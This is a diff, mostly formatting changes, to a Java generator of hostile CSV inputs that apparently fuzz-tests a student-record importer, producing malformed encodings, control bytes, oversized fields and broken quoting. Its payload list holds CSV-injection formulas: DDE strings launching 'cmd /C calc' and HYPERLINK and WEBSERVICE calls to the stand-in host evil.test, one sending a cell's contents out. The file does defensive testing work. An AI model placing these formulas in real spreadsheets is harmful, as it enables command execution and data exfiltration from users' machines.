@@ -17,12 +17,30 @@ final class HostileCsv {
     static final String HEADER = "Matricule;Nom;Prénom;Adresse 1;Adresse 2;Code postal;Ville;Collège;Canal";
     /** What spreadsheets run as formulas (OWASP "CSV injection"), and payloads after them. */
     static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r");
-    static final List<String> FORMULA_PAYLOADS = List.of("cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.test\",\"clic\")",
-            "SUM(1+1)*cmd|' /C calc'!A0", "1+2", "WEBSERVICE(\"http://evil.test/\"&A1)", "DDE(\"cmd\";\"/C calc\";\"!A0\")");
+
+    static final List<String> FORMULA_PAYLOADS = List.of(
+            "cmd|' /C calc'!A0",
+            "HYPERLINK(\"http://evil.test\",\"clic\")",
+            "SUM(1+1)*cmd|' /C calc'!A0",
+            "1+2",
+            "WEBSERVICE(\"http://evil.test/\"&A1)",
+            "DDE(\"cmd\";\"/C calc\";\"!A0\")");
 
     enum Kind {
-        CELLS, FORMULA, INVALID_UTF8, NUL_AND_CONTROL, MEGABYTE_FIELD, THOUSANDS_OF_COLUMNS, EMPTY, HEADER_ONLY,
-        DUPLICATED_COLUMN, MISSING_COLUMN, UNBALANCED_QUOTE, ENCODING, LINE_ENDS, HOSTILE_HEADER
+        CELLS,
+        FORMULA,
+        INVALID_UTF8,
+        NUL_AND_CONTROL,
+        MEGABYTE_FIELD,
+        THOUSANDS_OF_COLUMNS,
+        EMPTY,
+        HEADER_ONLY,
+        DUPLICATED_COLUMN,
+        MISSING_COLUMN,
+        UNBALANCED_QUOTE,
+        ENCODING,
+        LINE_ENDS,
+        HOSTILE_HEADER
     }
 
     private final HostileInputs inputs;
@@ -58,7 +76,8 @@ final class HostileCsv {
     /** One hostile file of this kind, as bytes. */
     byte[] file(Kind kind) {
         List<List<String>> some = new ArrayList<>();
-        rows.subList(0, 1 + inputs.random().nextInt(Math.min(rows.size(), 6))).forEach(r -> some.add(new ArrayList<>(r)));
+        rows.subList(0, 1 + inputs.random().nextInt(Math.min(rows.size(), 6)))
+                .forEach(r -> some.add(new ArrayList<>(r)));
         List<String> header = new ArrayList<>(List.of(HEADER.split(";")));
         return switch (kind) {
             case CELLS -> {
@@ -84,15 +103,19 @@ final class HostileCsv {
             case NUL_AND_CONTROL -> {
                 byte[] text = utf8(header, some);
                 for (int i = 0, n = 1 + inputs.random().nextInt(4); i < n; i++) {
-                    text = splice(text, inputs.random().nextInt(text.length), new byte[]{(byte) inputs.random().nextInt(0x20)});
+                    text = splice(text, inputs.random().nextInt(text.length), new byte[] {
+                        (byte) inputs.random().nextInt(0x20)
+                    });
                 }
                 yield text;
             }
             case MEGABYTE_FIELD -> {
                 List<String> row = inputs.pick(some);
                 String unit = inputs.chance(0.5) ? "A" : inputs.pick(HostileInputs.FRAGMENTS);
-                row.set(inputs.random().nextInt(row.size()),
-                        (unit.isEmpty() ? "B" : unit).repeat(HostileInputs.ONE_MEGABYTE / Math.max(1, unit.length()) + 1));
+                row.set(
+                        inputs.random().nextInt(row.size()),
+                        (unit.isEmpty() ? "B" : unit)
+                                .repeat(HostileInputs.ONE_MEGABYTE / Math.max(1, unit.length()) + 1));
                 yield utf8(header, some);
             }
             case THOUSANDS_OF_COLUMNS -> {
@@ -107,13 +130,17 @@ final class HostileCsv {
                 });
                 yield utf8(header, some);
             }
-            case EMPTY -> inputs.pick(List.of("", " ", "\r\n\r\n", "\t ; ;\n", "\uFEFF", ";;;;", "\"\"", "\u00a0\u2003"))
-                    .getBytes(StandardCharsets.UTF_8);
-            case HEADER_ONLY -> ((inputs.chance(0.5) ? "\uFEFF" : "") + HEADER + (inputs.chance(0.5) ? "\r\n" : ""))
-                    .getBytes(StandardCharsets.UTF_8);
+            case EMPTY ->
+                inputs.pick(List.of("", " ", "\r\n\r\n", "\t ; ;\n", "\uFEFF", ";;;;", "\"\"", "\u00a0\u2003"))
+                        .getBytes(StandardCharsets.UTF_8);
+            case HEADER_ONLY ->
+                ((inputs.chance(0.5) ? "\uFEFF" : "") + HEADER + (inputs.chance(0.5) ? "\r\n" : ""))
+                        .getBytes(StandardCharsets.UTF_8);
             case DUPLICATED_COLUMN -> {
                 int column = inputs.random().nextInt(header.size());
-                header.add(inputs.random().nextInt(header.size() + 1), header.get(column).toUpperCase(java.util.Locale.ROOT));
+                header.add(
+                        inputs.random().nextInt(header.size() + 1),
+                        header.get(column).toUpperCase(java.util.Locale.ROOT));
                 some.forEach(row -> row.add(inputs.value(row.get(column))));
                 yield utf8(header, some);
             }
@@ -131,18 +158,21 @@ final class HostileCsv {
                 String text = text(header, some);
                 String cell = row.get(column);
                 int at = text.indexOf(cell, HEADER.length());
-                String broken = at < 0 ? text + "\"" : text.substring(0, at)
-                        + (inputs.chance(0.5) ? "\"" + cell : cell + "\"x\"") + text.substring(at + cell.length());
+                String broken = at < 0
+                        ? text + "\""
+                        : text.substring(0, at)
+                                + (inputs.chance(0.5) ? "\"" + cell : cell + "\"x\"")
+                                + text.substring(at + cell.length());
                 yield broken.getBytes(StandardCharsets.UTF_8);
             }
             case ENCODING -> {
                 String text = text(header, some);
                 yield switch (inputs.random().nextInt(5)) {
-                    case 0 -> concat(new byte[]{(byte) 0xFE, (byte) 0xFF}, text.getBytes(StandardCharsets.UTF_16BE));
-                    case 1 -> concat(new byte[]{(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_16LE));
-                    case 2 -> concat(new byte[]{(byte) 0xFF, (byte) 0xFE}, new byte[]{0x41, 0x00, 0x42});
+                    case 0 -> concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, text.getBytes(StandardCharsets.UTF_16BE));
+                    case 1 -> concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_16LE));
+                    case 2 -> concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {0x41, 0x00, 0x42});
                     case 3 -> text.getBytes(CsvCharsets.WINDOWS_1252);
-                    default -> new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
+                    default -> new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
                 };
             }
             case LINE_ENDS -> {
